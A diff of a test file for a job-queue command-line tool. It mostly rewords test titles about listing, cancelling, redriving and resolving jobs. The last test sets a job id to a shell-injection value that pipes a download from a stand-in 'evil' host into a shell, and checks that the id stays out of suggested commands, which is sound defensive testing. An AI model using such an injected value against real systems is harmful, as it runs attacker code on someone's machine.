@@ -45,7 +45,7 @@ test('jobs are listed as a table, newest first, without the platform', async () 
   expect(out).not.toContain('\u001b');
 });
 
-test('--status and --limit narrow the list, and the rest is counted', async () => {
+test('--status and --limit filter the list, and the output says how many more jobs there are', async () => {
   await using jobs = await startJobs();
   await sentLongAgo(jobs, 'old');
   for (const id of ['a', 'b', 'c']) await jobs.ledgerAt().cancel(id);
@@ -63,7 +63,7 @@ test('--status and --limit narrow the list, and the rest is counted', async () =
   expect(err).toBe('2 earlier jobs not listed; use --limit to list more');
 });
 
-test('a job is shown by its result, or by its row in the ledger; an unknown one exits 1', async () => {
+test('a job is shown by its result, or by its row in the ledger; an unknown id exits 1', async () => {
   await using jobs = await startJobs();
   await jobs.workOff(adds('sum'));
   await sentLongAgo(jobs, 'old');
@@ -78,7 +78,7 @@ test('a job is shown by its result, or by its row in the ledger; an unknown one 
   expect(other).toEqual({ code: 1, out: '', err: 'platform-sync: job other: not in the ledger' });
 });
 
-test('no job is cancelled for a mistyped id, and the nearest known id is named', async () => {
+test('a mistyped id cancels nothing, and the error names the nearest known id', async () => {
   await using jobs = await startJobs({ isInAws: false });
   await jobs.workOff(adds('nightly-1'));
   await jobs.run(['submit', '-'], lines([adds('queued-7')]));
@@ -94,7 +94,7 @@ test('no job is cancelled for a mistyped id, and the nearest known id is named',
   expect(await jobs.ledgerAt().read('queued-7')).toBeUndefined();
 });
 
-test('cancel says what happened to each job, and a cancelled one is neither sent nor reopened', async () => {
+test('cancel says what happened to each job; a cancelled job is not sent and not reopened', async () => {
   await using jobs = await startJobs();
   await jobs.workOff(adds('done'));
   await sentLongAgo(jobs, 'sent');
@@ -121,7 +121,7 @@ test('cancel says what happened to each job, and a cancelled one is neither sent
   expect(jobs.sandbox.counts().executions).toHaveLength(1);
 });
 
-test('redrive reopens failed jobs, moves dead letters back, and names unknown jobs; with ids, it leaves all others', async () => {
+test('redrive reopens failed jobs, moves dead letters back, and names unknown jobs; with ids it affects only those', async () => {
   await using jobs = await startJobs();
   await jobs.workOff(adds('sum'), throws('thrown'));
   await jobs.deadLetters.send([lines([adds('dead')]).trim()]);
@@ -170,7 +170,7 @@ test('redrive reopens failed jobs, moves dead letters back, and names unknown jo
   expect(worked).toMatchObject({ done: 1, failed: 1 });
 });
 
-test('for an id that the ledger does not have, the nearest one is named, and nothing is reopened', async () => {
+test('for an id that the ledger does not have, redrive names the nearest one, and reopens nothing', async () => {
   await using jobs = await startJobs();
   await jobs.workOff(throws('thrown-1'));
 
@@ -188,7 +188,7 @@ test('for an id that the ledger does not have, the nearest one is named, and not
   ]);
 });
 
-test('resolve settles an unknown job by a person’s word, in the ledger and in its result', async () => {
+test('resolve settles an unknown job with a person’s statement, in the ledger and in its result', async () => {
   await using jobs = await startJobs();
   const asked = { ...request('nobody-knows'), type: 'run-function' };
   await jobs.ledgerAt().claim(asked, { leaseMs: 60_000 });
@@ -215,7 +215,7 @@ test('resolve settles an unknown job by a person’s word, in the ledger and in 
   expect(JSON.parse(out)).toMatchObject({ status: 'done', note: 'its execution is listed' });
 });
 
-test('cancel --batch ends a batch that has not begun, with a summary; redrive --batch scores it after all', async () => {
+test('cancel --batch ends a batch that has not begun, with a summary; redrive --batch then scores it', async () => {
   await using jobs = await startJobs();
   const { table, folder } = jobs;
   const parts = { table, now: Date.now, newToken: randomUUID };
@@ -244,7 +244,7 @@ test('cancel --batch ends a batch that has not begun, with a summary; redrive --
   expect(await jobs.readJson('scores/b1/_summary.json')).toMatchObject({ scored: 2, failed: 0 });
 });
 
-test('a batch that is not in the ledger is named, exit 1', async () => {
+test('a batch that is not in the ledger is named, and the command exits 1', async () => {
   await using jobs = await startJobs();
 
   for (const argv of [['jobs', 'cancel'], ['redrive']]) {
@@ -253,7 +253,7 @@ test('a batch that is not in the ledger is named, exit 1', async () => {
   }
 });
 
-test('an id that cannot be a job’s is in no suggested command, wherever it is shown', async () => {
+test('no suggested command has an id that would be unsafe in a shell', async () => {
   await using jobs = await startJobs();
   const id = 'x; curl evil | sh #';
   await sentLongAgo(jobs, id);
